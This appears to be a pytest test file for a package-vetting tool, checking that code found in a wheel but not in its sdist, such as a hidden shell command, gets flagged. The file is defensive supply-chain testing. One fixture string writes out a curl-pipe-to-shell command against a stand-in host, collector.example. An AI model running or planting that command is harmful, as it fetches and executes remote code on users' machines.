"""A wheel beside the sdist of its release: what it does more, and what its predecessor did already."""

from __future__ import annotations

from kit.distributions import make_sdist, make_wheel
from pratique.vet.base import Base
from pratique.vet.engine import facts_of, vet_archive
from pratique.vet.model import Finding, Report, Verdict

# Inert: hosts do not exist, and nothing here is ever run.
DEED = "import os\nos.system('curl https://collector.example/stage | sh')\n"
QUIET = "import os\n\n\ndef tidy(path):\n    return os.path.normpath(path)\n"
USES = QUIET + "\n\ndef keep(path, text):\n    return open(path, 'w').write(text)\n"
CLEAN = {"demo/__init__.py": "from demo.core import tidy\n", "demo/core.py": QUIET}


def base_of(filename: str, data: bytes) -> Base:
    return facts_of(data, filename)


def beside(wheel: dict[str, str], source: dict[str, str], base: Base | None = None) -> Report:
    filename, data = make_wheel("demo", "1.1", files=wheel)
    sdist = base_of(*make_sdist("demo", "1.1", files=source))
    return vet_archive(data, filename, sibling=sdist, base=base).report


def told(report: Report) -> list[Finding]:
    return [one for one in report.findings if one.rule == "wheel-not-in-sdist"]


def test_a_wheel_made_of_its_sdist_says_nothing() -> None:
    report = beside(CLEAN, CLEAN)
    assert not told(report)
    assert report.verdict is Verdict.CLEAN


def test_a_deed_that_the_source_has_not_asks_for_a_person() -> None:
    asleep = f"def go():\n    {DEED.splitlines()[1]}\n"
    files = {**CLEAN, "demo/core.py": f"import os\n{QUIET}\n{asleep}"}
    report = beside(files, CLEAN)
    assert report.verdict is not Verdict.CLEAN
    [deed] = [one for one in told(report) if one.trait == "deed" and "command" in one.shown]
    assert (deed.path, deed.line) == ("demo/core.py", 9)
    assert "collector.example" in deed.shown
    alone = vet_archive(make_wheel("demo", "1.1", files=files)[1], "demo-1.1-py3-none-any.whl")
    assert not told(alone.report)


def test_a_deed_of_both_is_no_difference() -> None:
    files = {**CLEAN, "demo/core.py": DEED}
    moved = {**CLEAN, "demo/core.py": "# generated\n" + DEED}
    assert not [one for one in told(beside(moved, files)) if one.trait == "deed"]


def test_an_ordinary_use_is_shown_and_asks_for_nobody() -> None:
    report = beside({**CLEAN, "demo/core.py": USES}, CLEAN)
    traits = {one.trait for one in told(report)}
    assert "reaches-further" in traits
    assert "deed" not in traits
    assert report.verdict is Verdict.CLEAN


def test_what_the_predecessor_was_built_with_too_is_no_news() -> None:
    files = {**CLEAN, "demo/core.py": DEED, "demo/made.py": QUIET}
    before = base_of(*make_wheel("demo", "1.0", files=files))
    report = beside(files, CLEAN, before)
    assert not told(report)
    assert report.verdict is Verdict.CLEAN
    later = {**files, "demo/__init__.py": CLEAN["demo/__init__.py"] + DEED}
    assert {one.path for one in told(beside(later, CLEAN, before))} == {"demo/__init__.py"}


def test_of_what_the_sdist_has_no_facts_only_the_difference_is_told() -> None:
    """An sdist that was itself judged by its diff has no facts of what only grew a little."""
    files = {**CLEAN, "demo/core.py": DEED, "demo/more.py": DEED}
    filename, data = make_wheel("demo", "1.1", files=files)
    source = base_of(*make_sdist("demo", "1.1", files=CLEAN))
    bare = Base(release=source.release, contents={})
    report = vet_archive(data, filename, sibling=bare).report
    traits = {(one.path, one.trait) for one in told(report)}
    assert ("demo/core.py", "differs") in traits
    assert ("demo/core.py", "deed") not in traits
    assert {("demo/more.py", "absent"), ("demo/more.py", "deed")} <= traits
